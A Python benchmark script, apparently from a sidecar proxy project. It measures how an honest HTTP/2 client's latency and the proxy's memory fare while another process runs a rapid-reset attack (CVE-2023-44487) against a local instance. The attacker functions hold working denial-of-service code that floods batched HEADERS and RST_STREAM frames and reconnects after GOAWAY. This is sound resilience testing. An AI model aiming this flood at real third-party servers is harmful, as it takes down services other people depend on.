"""What an honest client notices of a rapid-reset attacker on another connection (CVE-2023-44487).

    python -m benchmarks.rapid_reset [--engine relay] [--requests 3000] [--pause 1]

One sidecar process, on one core, in front of one app; its mesh port is asked by two members at once. The honest one
sends one request after the other and notes how long each takes. The attacker sends HEADERS and RST_STREAM as fast as
its socket takes them, is said goodbye, waits `--pause` seconds and comes back. The same is measured without it first.
Printed: both distributions and their ratios, how often the attacker was ended and after how much, and the memory of
the sidecar before, between and after.
"""

from __future__ import annotations

import multiprocessing
import os
import select
import socket
import ssl
import struct
import tempfile
import time
from collections.abc import Sequence
from contextlib import ExitStack
from dataclasses import dataclass
from itertools import count
from multiprocessing.connection import Connection
from multiprocessing.synchronize import Event
from pathlib import Path

import click
import h2.config
import h2.connection
import h2.events
from hpack import Encoder

from benchmarks import apps, work
from benchmarks.account import memory
from benchmarks.certificates import Files
from benchmarks.idle import AUTHORITY, context_of
from benchmarks.load import percentile
from benchmarks.ours import Ours
from benchmarks.system import Cores, Setup
from sidecar.http.frames import GOAWAY, HEADERS, PREFACE, RST_STREAM, SETTINGS
from sidecar.http.session import ErrorCode

WARM_UP = 300
BATCH = 1_000
"""Requests in one write: as much as one slice of the sidecar reads."""
ANSWER_S = 30.0
HEAD = [(":method", "GET"), (":scheme", "https"), (":authority", AUTHORITY), (":path", work.paths()[0])]


@dataclass(frozen=True, slots=True, kw_only=True)
class Attacked:
    """What the attacker got done."""

    connections: int
    calmed: int
    """Of these, ended by GOAWAY(ENHANCE_YOUR_CALM)."""
    requests: int
    """Written until the connections were gone; most of them nobody read."""


def connected(port: int, files: Files) -> ssl.SSLSocket:
    context = context_of(str(files.chain), str(files.key), str(files.anchors))
    sock = socket.create_connection(("127.0.0.1", port), timeout=ANSWER_S)
    return context.wrap_socket(sock, server_hostname=work.SERVICE)


# The attacker


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">HBBBL", len(payload) >> 8, len(payload) & 0xFF, kind, flags, stream) + payload


def batches(encoder: Encoder) -> Sequence[bytes]:
    """HEADERS and RST_STREAM, a batch at a time; more than any connection survives."""
    cancel = struct.pack(">L", ErrorCode.CANCEL)
    streams = count(1, 2)
    built = []
    for _ in range(20):
        batch = bytearray()
        for _ in range(BATCH):
            stream = next(streams)
            batch += frame(HEADERS, 0x5, stream, encoder.encode(HEAD)) + frame(RST_STREAM, 0, stream, cancel)
        built.append(bytes(batch))
    return built


def attack_once(port: int, files: Files, written: Sequence[bytes]) -> tuple[int, bool]:
    """One connection from its handshake to its end: requests written, and whether it was told to calm down."""
    calm = struct.pack(">L", ErrorCode.ENHANCE_YOUR_CALM)
    got = b""
    sent = 0
    with connected(port, files) as sock:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        sock.settimeout(0)
        try:
            for batch in written:
                rest = memoryview(batch)
                while rest:
                    try:
                        rest = rest[sock.send(rest) :]
                    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                        select.select([sock], [sock], [], 0.1)
                    got += some(sock)
                sent += BATCH
            sock.settimeout(ANSWER_S)
            while data := sock.recv(65_536):
                got += data
        except OSError:  # it was hung up on
            pass
    return sent, any(got[at + 3] == GOAWAY and got[at + 13 : at + 17] == calm for at in heads(got))


def some(sock: ssl.SSLSocket) -> bytes:
    try:
        return sock.recv(65_536)
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return b""


def heads(octets: bytes) -> Sequence[int]:
    """Where the frames begin."""
    found, at = [], 0
    while at + 9 <= len(octets):
        found.append(at)
        at += 9 + int.from_bytes(octets[at : at + 3])
    return found


def attack(port: int, files: Files, pause_s: float, core: str, told: Connection, stop: Event) -> None:
    """A process of its own: one connection after the other, until told to stop."""
    os.sched_setaffinity(0, {int(number) for number in core.split(",")})
    written = batches(Encoder())
    connections = calmed = requests = 0
    while not stop.is_set():
        sent, was_calmed = attack_once(port, files, written)
        connections, calmed, requests = connections + 1, calmed + was_calmed, requests + sent
        stop.wait(pause_s)
    told.send(Attacked(connections=connections, calmed=calmed, requests=requests))


# The honest client


class Client:
    """One request after the other on one connection."""

    def __init__(self, port: int, files: Files) -> None:
        self._sock = connected(port, files)
        self._session = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self._session.initiate_connection()

    def ask(self) -> float:
        """Seconds until the whole answer was here. RuntimeError when it is not the one there should be."""
        began = time.perf_counter()
        session = self._session
        stream = session.get_next_available_stream_id()
        session.send_headers(stream, HEAD, end_stream=True)
        self._sock.sendall(session.data_to_send())
        while True:
            data = self._sock.recv(65_536)
            if not data:
                raise RuntimeError("the honest client was hung up on")
            for event in session.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived) and (b":status", b"200") not in event.headers:
                    raise RuntimeError(f"the honest client was answered {event.headers}")
                if isinstance(event, h2.events.DataReceived):
                    session.acknowledge_received_data(event.flow_controlled_length, stream)
                elif isinstance(event, h2.events.StreamEnded):
                    return time.perf_counter() - began


def measured(client: Client, requests: int) -> list[float]:
    """Seconds, in ascending order."""
    return sorted(client.ask() for _ in range(requests))


# Both


def attacked(client: Client, requests: int, port: int, files: Files, pause_s: float) -> tuple[list[float], Attacked]:
    spawn = multiprocessing.get_context("spawn")
    here, there = spawn.Pipe()
    stop = spawn.Event()
    process = spawn.Process(target=attack, args=(port, files, pause_s, Cores.choose().rest, there, stop))
    process.start()
    try:
        time.sleep(1.0)  # it imports and builds what it will send
        found = measured(client, requests)
        stop.set()
        what = here.recv()
    finally:
        stop.set()
        process.join(ANSWER_S)
    assert isinstance(what, Attacked)
    return found, what


@click.command()
@click.option("--engine", default="relay", show_default=True)
@click.option("--requests", default=3_000, show_default=True, help="Of the honest client, each time.")
@click.option("--pause", default=1.0, show_default=True, help="Seconds before the attacker comes back; 0: at once.")
def main(engine: str, requests: int, pause: float) -> None:
    """Print what an honest client notices of a rapid-reset attacker."""
    with tempfile.TemporaryDirectory() as directory, ExitStack() as stack:
        cores = Cores.choose()
        own, files = Path(directory, "ours"), Path(directory, "files")
        own.mkdir()
        files.mkdir()
        work.write_files(files)
        (files / "mime.types").write_text("")
        app = apps.start_http2(stack, directory=Path(directory), files=files, core=cores.rest, is_grpc=False)
        running = stack.enter_context(Ours(engine).start(Setup(app=app, cores=cores, directory=own)))
        (pid,) = running.inbound
        client = Client(running.mesh_port, running.caller)
        measured(client, WARM_UP)
        before = memory(pid).rss_octets
        alone = measured(client, requests)
        beside, what = attacked(client, requests, running.mesh_port, running.caller, pause)
        after = memory(pid).rss_octets
        again, more = attacked(client, requests, running.mesh_port, running.caller, pause)
        last = memory(pid).rss_octets
        for name, values in (("alone", alone), ("attacked", beside), ("attacked again", again)):
            spread = ", ".join(
                f"p{100 * share:g} {1e3 * percentile(values, share):.2f} ms" for share in (0.5, 0.99, 0.999)
            )
            click.echo(f"{name:15} {spread}, max {1e3 * values[-1]:.2f} ms")
        ratio = percentile(beside, 0.99) / percentile(alone, 0.99)
        click.echo(f"p99 attacked/alone {ratio:.2f}, again {percentile(again, 0.99) / percentile(alone, 0.99):.2f}")
        for one in (what, more):
            click.echo(f"attacker: {one.connections} connections, {one.calmed} calmed, {one.requests} requests written")
        click.echo(
            f"resident MiB: {before / 2**20:.1f} before, {after / 2**20:.1f} after, {last / 2**20:.1f} at the end"
        )


if __name__ == "__main__":
    main()
